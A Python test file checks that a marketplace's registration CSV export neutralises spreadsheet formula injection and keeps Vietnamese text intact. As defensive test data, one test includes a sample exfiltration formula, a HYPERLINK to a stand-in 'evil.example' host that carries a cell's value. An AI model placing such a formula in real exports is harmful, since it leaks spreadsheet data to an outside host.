"""CSV cells are inert in spreadsheets: no cell starts with a formula character, and nothing else changes."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from marketplace.events.registration.export import BOM, FORMULA_LEADS, csv_bytes, safe_cell

LEADS = sorted(FORMULA_LEADS)
# text that often starts with a dangerous character, plus anything at all
risky_text = st.one_of(st.builds(lambda lead, rest: lead + rest, st.sampled_from(LEADS), st.text()), st.text())


@given(risky_text)
def test_safe_cell_never_starts_with_a_formula_character(value):
    cell = safe_cell(value)
    assert cell == "" or cell[0] not in FORMULA_LEADS


@given(risky_text)
def test_safe_cell_only_prefixes_a_quote(value):
    cell = safe_cell(value)
    if value and value[0] in FORMULA_LEADS:
        assert cell == "'" + value
    else:
        assert cell == value


@given(st.lists(st.lists(st.one_of(risky_text, st.integers(), st.none()), max_size=6), max_size=8))
def test_csv_round_trip_keeps_every_value_and_neutralises_formulas(rows):
    data = csv_bytes(["Họ và tên", "=cột"], rows)
    assert data.startswith(BOM.encode("utf-8"))
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert parsed[0] == ["Họ và tên", "'=cột"]
    assert parsed[1:] == [[safe_cell(cell) for cell in row] for row in rows]
    assert all(cell == "" or cell[0] not in FORMULA_LEADS for row in parsed for cell in row)


def test_known_attacks_and_ordinary_values():
    assert safe_cell('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")').startswith("'=HYPERLINK")
    assert safe_cell("+84 912 345 678") == "'+84 912 345 678"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert safe_cell("\t=1+1") == "'\t=1+1"
    assert safe_cell("\r=1+1") == "'\r=1+1"
    assert safe_cell("＝1+1") == "'＝1+1"  # fullwidth equals sign
    assert safe_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(None) == ""
    assert safe_cell(42) == "42"
    assert safe_cell(-1) == "'-1"


def test_vietnamese_survives_as_utf8_with_bom():
    data = csv_bytes(["Tổ chức"], [["Công ty CP Chế biến Nông sản Khoái Châu"]])
    assert data[:3] == b"\xef\xbb\xbf"
    assert "Khoái Châu".encode() in data
    assert data.endswith(b"\r\n")
